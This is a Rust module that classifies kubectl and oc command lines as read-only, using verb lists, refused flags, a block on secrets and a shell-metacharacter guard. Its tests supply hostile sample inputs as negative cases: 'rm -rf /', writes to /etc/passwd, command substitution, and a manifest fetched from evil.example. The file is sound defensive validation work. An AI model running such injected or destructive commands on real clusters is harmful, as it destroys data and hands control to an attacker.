//! Whether a command line of kubectl or oc reads: by its verb, without flags that reach elsewhere, write, or show secrets.

/// Signs that a shell takes for more than a word.
const SHELL: &[char] = &[
    '`', '$', ';', '|', '&', '<', '>', '(', ')', '{', '}', '\\', '\n', '\r', '!', '#', '*', '?',
    '~', '\0',
];
/// Verbs that read, each with the words of which one must follow; none stands for any.
const VERBS: [(&str, &[&str]); 15] = [
    ("get", &[]),
    ("describe", &[]),
    ("logs", &[]),
    ("log", &[]),
    ("top", &[]),
    ("explain", &[]),
    ("version", &[]),
    ("api-resources", &[]),
    ("api-versions", &[]),
    ("events", &[]),
    ("status", &[]),
    ("auth", &["can-i", "whoami"]),
    ("rollout", &["status", "history"]),
    ("config", &["view", "current-context", "get-contexts", "get-clusters", "get-users"]),
    ("cluster-info", &[""]),
];
/// Flags before the verb, each with a value.
const GLOBAL: [&str; 5] = ["-n", "--namespace", "--context", "--cluster", "--request-timeout"];
/// Flags that reach another server, act as somebody else, write files, or show what is hidden.
const REFUSED: [&str; 23] = [
    "--as",
    "--as-group",
    "--as-uid",
    "--cache-dir",
    "--certificate-authority",
    "--client-certificate",
    "--client-key",
    "--filename",
    "--flatten",
    "--insecure-skip-tls-verify",
    "--kubeconfig",
    "--kustomize",
    "--log-file",
    "--log-dir",
    "--password",
    "--profile",
    "--profile-output",
    "--raw",
    "--server",
    "--tls-server-name",
    "--token",
    "--username",
    "--v",
];
/// What `get` and `describe` show of secrets.
const SECRETS: [&str; 2] = ["secret", "secrets"];

/// Why a command is not known to read; none if it reads.
pub(crate) fn doubt(words: &[String]) -> Option<String> {
    let mut rest = words.iter().map(String::as_str).peekable();
    rest.next_if(|first| ["kubectl", "oc"].contains(first));
    while let Some(flag) = rest.next_if(|word| word.starts_with('-')) {
        let (name, value) =
            flag.split_once('=').map_or((flag, None), |(name, value)| (name, Some(value)));
        if !GLOBAL.contains(&name) {
            return Some(format!("the flag {name} before the verb is not known"));
        }
        if value.is_none() {
            rest.next();
        }
    }
    let verb = rest.next().unwrap_or_default();
    let Some((_, following)) = VERBS.iter().find(|(known, _)| *known == verb) else {
        return Some(format!("{verb:?} is no verb that only reads"));
    };
    let others: Vec<&str> = rest.collect();
    let next = others.first().copied().unwrap_or_default();
    if !following.is_empty() && !following.contains(&next) {
        return Some(format!("{verb} {next} is not known to read"));
    }
    others.iter().find_map(|word| doubt_of_word(verb, word))
}

fn doubt_of_word(verb: &str, word: &str) -> Option<String> {
    let name = word.split('=').next().unwrap_or_default();
    // Short flags may be joined with others, or with their value.
    let has_value = ["-c", "-l", "-n", "-o", "-L"].iter().any(|flag| name.starts_with(flag));
    let is_short = name.starts_with('-') && !name.starts_with("--") && !has_value;
    let follows = ["logs", "log"].contains(&verb);
    let is_refused = name.contains(['k', 's', 'v']) || (name.contains('f') && !follows);
    // `pflag` takes flags by their whole names; `_` counts as `-`.
    if REFUSED.contains(&name.replace('_', "-").as_str()) || (is_short && is_refused) {
        return Some(format!("the flag {name} is not known to read"));
    }
    let of_kinds = word.split(',').map(|kind| kind.split(['/', '.']).next().unwrap_or_default());
    let shows_secrets = of_kinds
        .into_iter()
        .any(|kind| SECRETS.iter().any(|known| kind.eq_ignore_ascii_case(known)));
    (shows_secrets && verb != "explain").then(|| "it asks for secrets".to_owned())
}

/// The words of a command line; none if a shell would do more than divide it.
pub(crate) fn split(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut quote: Option<char> = None;
    for sign in line.trim().chars() {
        match (quote, sign) {
            (Some(open), _) if open == sign => quote = None,
            (Some('\''), '\n' | '\r' | '\0')
            | (Some('"'), '`' | '$' | '\\' | '\n' | '\r' | '\0' | '!') => return None,
            (None, '\'' | '"') => {
                quote = Some(sign);
                word.get_or_insert_default();
            }
            (None, _) if SHELL.contains(&sign) => return None,
            (None, _) if sign.is_whitespace() => words.extend(word.take()),
            _ => word.get_or_insert_default().push(sign),
        }
    }
    words.extend(word);
    quote.is_none().then_some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reads(line: &str) -> bool {
        split(line).is_some_and(|words| doubt(&words).is_none())
    }

    #[test]
    fn a_command_reads_by_its_verb() {
        for line in [
            "get pods -A",
            "kubectl get pods -n shop -o wide",
            "kubectl -n shop --context prod describe deployment/web",
            "logs web-1 -c app --previous --tail=50 -f",
            "get pods -o jsonpath='{.items[*].metadata.name}'",
            "rollout status deployment/web",
            "auth can-i delete pods",
            "top nodes",
            "get events --sort-by=.lastTimestamp",
            "config view",
            "cluster-info",
        ] {
            assert!(reads(line), "{line}");
        }
    }

    #[test]
    fn a_command_that_may_change_something_or_show_secrets_does_not_read() {
        for line in [
            "delete pods --all -A",
            "kubectl -n delete delete pods",
            "get pods; kubectl delete pods --all",
            "get pods && rm -rf /",
            "get pods $(kubectl delete ns shop)",
            "get pods | xargs kubectl delete",
            "get pods > /etc/passwd",
            "get pods \"$(id)\"",
            "get pods\ndelete pods",
            "rollout restart deployment/web",
            "config set-context x",
            "config view --raw",
            "auth reconcile -f x.yaml",
            "exec web-1 -- sh",
            "get --raw /api/v1/namespaces/x/services/y/proxy/",
            "get -f http://evil.example/x.yaml",
            "get -Rf http://evil.example/x.yaml",
            "get pods --server=https://evil.example",
            "get pods -s https://evil.example",
            "get pods -As https://evil.example",
            "logs web-1 -s https://evil.example",
            "get pods -v=9",
            "get pods --kubeconfig /tmp/x",
            "get pods --token=x",
            "--kubeconfig /tmp/x get pods",
            "get secrets -A -o yaml",
            "get pods,secret/tls",
            "describe Secret tls",
            "apply -f x.yaml",
            "cluster-info dump --output-directory=/tmp",
            "get pods 'x",
            "pods",
            "kubectl",
            "",
        ] {
            assert!(!reads(line), "{line}");
        }
    }
}
